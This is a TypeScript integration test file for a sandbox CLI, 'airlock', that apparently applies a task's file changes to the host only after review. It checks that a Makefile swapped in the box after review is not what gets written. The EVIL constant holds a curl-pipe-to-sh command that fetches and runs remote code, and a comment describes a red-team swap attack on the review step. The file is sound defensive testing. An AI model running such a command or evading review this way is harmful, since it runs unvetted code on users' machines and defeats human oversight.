import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { copyBundle } from '../helpers/cliBundle.js';
import { launchNode, type Running, startTask, stopTask, until } from '../helpers/cliProcess.js';
import { realEngine, TEST_IMAGE } from '../helpers/realEngine.js';
import { makeTempDir, removeTempDirs, writeFiles } from '../helpers/tempWorkspace.js';
import { sha256 } from '../helpers/changeFixtures.js';

/**
 * Issue 13 §1: what is applied is exactly what was reviewed. The red team's hostile process swapped
 * a file's contents in the box after the reviewer's diff; here the swap is done on purpose between
 * the review and the apply, which is the same as far as the host can see.
 */
const BASE = 'all:\n\techo base\n';
const REVIEWED = 'all:\n\techo reviewed\n';
const EVIL = 'all:\n\tcurl -s http://127.0.0.1:9/x | sh\n';

describe('a review names its content (integration, CLI)', () => {
  let cli = '';
  let state = '';
  let ws = '';
  let id = '';
  const bg = (args: string[], timeoutMs = 120_000): Running => launchNode([cli, ...args], { env: { AIRLOCK_STATE_DIR: state, AIRLOCK_IMAGE: TEST_IMAGE }, timeoutMs });
  const airlock = (args: string[], timeoutMs?: number) => bg(args, timeoutMs).result;
  const inTask = async (script: string) => {
    const result = await airlock(['exec', id, '--', 'sh', '-c', script]);
    assert.equal(result.status, 0, `${script}: ${result.stderr}`);
  };
  const writeInTask = (rel: string, content: string) => inTask(`printf %s '${Buffer.from(content).toString('base64')}' | base64 -d > ${rel}`);
  const hostMakefile = () => fs.readFileSync(path.join(ws, 'Makefile'), 'utf8');
  const diffId = async () => {
    const result = await airlock(['diff', id, '--json']);
    assert.equal(result.status, 0, result.stderr);
    const parsed = JSON.parse(result.stdout) as { id: string; files: Array<{ path: string; newSha256?: string }> };
    assert.match(parsed.id, /^[0-9a-f]{64}$/, '`diff --json` names the change set with its full id');
    return parsed;
  };

  before(async (t) => {
    if (!(await realEngine(t as never))) return;
    cli = copyBundle(makeTempDir('airlock-review-bundle-'));
    state = makeTempDir('airlock-review-state-');
    ws = makeTempDir('airlock-review-ws-');
    writeFiles(ws, { Makefile: BASE, 'notes.txt': 'notes\n' });
    id = await startTask(airlock, ws, []);
  });

  after(async () => {
    if (id) await stopTask(airlock, id);
    removeTempDirs();
  });

  test('a Makefile swapped in the box after the review is not what `apply --change-set` writes', async (t) => {
    if (!id) return t.skip('no engine');
    await writeInTask('Makefile', REVIEWED);
    const reviewed = await diffId();
    assert.equal(reviewed.files.find((file) => file.path === 'Makefile')?.newSha256, sha256(REVIEWED), 'the review lists each file with its content hash');
    const shown = await airlock(['diff', id]);
    assert.match(shown.stdout, /echo reviewed/);
    assert.ok(shown.stdout.includes(`change set ${reviewed.id.slice(0, 32)}`), `\`diff\` prints the change set id:\n${shown.stdout}`);

    await writeInTask('Makefile', EVIL); // the hostile swap, after the reviewer's look
    const applied = await airlock(['apply', id, '--change-set', reviewed.id.slice(0, 32), '--yes', '--allow-risky', 'Makefile']);
    assert.equal(applied.status, 0, applied.stderr);
    assert.equal(hostMakefile(), REVIEWED, 'the host got the reviewed bytes, not what the box holds now');
    assert.match(applied.stderr, /the task has changed since change set [0-9a-f]{32} was taken/, 'apply says the box changed since the review');
    assert.match(applied.stdout, new RegExp(`^from change set ${reviewed.id.slice(0, 32)}$`, "m"));

    const undone = await airlock(['undo', id]);
    assert.equal(undone.status, 0, undone.stderr);
    assert.equal(hostMakefile(), BASE);
  });

  test('`apply --yes` without a change set says it writes a fresh, unreviewed one', async (t) => {
    if (!id) return t.skip('no engine');
    const applied = await airlock(['apply', id, '--yes', '--allow-risky', 'Makefile', '--json']);
    assert.equal(applied.status, 0, applied.stderr);
    assert.match(applied.stderr, /a fresh look at the task that nobody reviewed/);
    const report = JSON.parse(applied.stdout) as { reviewed: boolean; changeSet: string };
    assert.equal(report.reviewed, false);
    assert.match(report.changeSet, /^[0-9a-f]{64}$/);
    assert.equal(hostMakefile(), EVIL, 'an unreviewed apply writes what the box has now, and said so');
    assert.equal((await airlock(['undo', id])).status, 0);
    assert.equal(hostMakefile(), BASE);
  });

  test('an `apply --request` names the change set and hashes, and after approval exactly those bytes are written', async (t) => {
    if (!id) return t.skip('no engine');
    await writeInTask('Makefile', REVIEWED);
    const requester = bg(['apply', id, '--request', '--allow-risky', 'Makefile', '--json']);
    let request: { id: string; details: { changeSet: string; review: string; files: string[] } } | undefined;
    assert.ok(
      await until(async () => {
        const listed = await airlock(['approvals', '--json', '--task', id]);
        request = (JSON.parse(listed.stdout || '[]') as Array<NonNullable<typeof request>>)[0];
        return Boolean(request);
      }, 60_000, 250),
      `no apply request appeared: ${requester.stderr()}`,
    );
    const { changeSet, review, files } = request!.details;
    assert.match(changeSet, /^[0-9a-f]{64}$/);
    assert.ok(files.some((line) => line.includes('Makefile') && line.includes(`sha256:${sha256(REVIEWED)}`)), `the request lists each file's hash: ${files.join(' | ')}`);
    assert.match(requester.stderr(), new RegExp(`asking to apply change set ${changeSet.slice(0, 32)}`));

    // The box swaps the file while the request waits; the reviewer looks at exactly the requested diff.
    await writeInTask('Makefile', EVIL);
    const reviewArgs = review.split(' ').slice(1);
    const shown = await airlock(reviewArgs);
    assert.equal(shown.status, 0, shown.stderr);
    assert.match(shown.stdout, /echo reviewed/, `the reviewer's command shows the requested bytes:\n${shown.stdout}`);
    assert.doesNotMatch(shown.stdout, /curl/);

    const approved = await airlock(['approve', request!.id]);
    assert.equal(approved.status, 0, approved.stderr);
    const done = await requester.result;
    assert.equal(done.status, 0, done.stderr);
    assert.equal(hostMakefile(), REVIEWED, 'after approval exactly the requested bytes reached the host');
    assert.equal((JSON.parse(done.stdout) as { changeSet: string }).changeSet, changeSet);
    assert.equal((await airlock(['undo', id])).status, 0);
  });

  test('a named change set is judged by the risk patterns given at apply time, never less than a fresh look', async (t) => {
    if (!id) return t.skip('no engine');
    await inTask('mkdir -p deploy && echo "echo deploy" > deploy/run.sh');
    const named = await diffId();
    const applied = await airlock(['apply', id, '--change-set', named.id, '--yes', '--risky', 'deploy/**', '--json']);
    assert.equal(applied.status, 0, applied.stderr);
    const report = JSON.parse(applied.stdout) as { held: Array<{ path: string; reason: string }> };
    assert.ok(report.held.some((item) => item.path === 'deploy/run.sh' && /deploy\/\*\*/.test(item.reason)), JSON.stringify(report.held));
    assert.equal(fs.existsSync(path.join(ws, 'deploy', 'run.sh')), false);
    if (fs.existsSync(path.join(ws, 'Makefile')) && hostMakefile() !== BASE) assert.equal((await airlock(['undo', id])).status, 0);
  });

  test('a change set id that is too short or unknown is refused, naming --change-set, and nothing is written', async (t) => {
    if (!id) return t.skip('no engine');
    const short = await airlock(['apply', id, '--change-set', 'abcd1234', '--yes']);
    assert.equal(short.status, 1);
    assert.match(short.stderr, /--change-set: "abcd1234" is not a change set id/);
    const unknown = await airlock(['apply', id, '--change-set', '0'.repeat(64), '--yes']);
    assert.equal(unknown.status, 1);
    assert.match(unknown.stderr, /--change-set: task [0-9a-f]+ has no change set 0{64}/);
    assert.equal(hostMakefile(), BASE);
  });
});
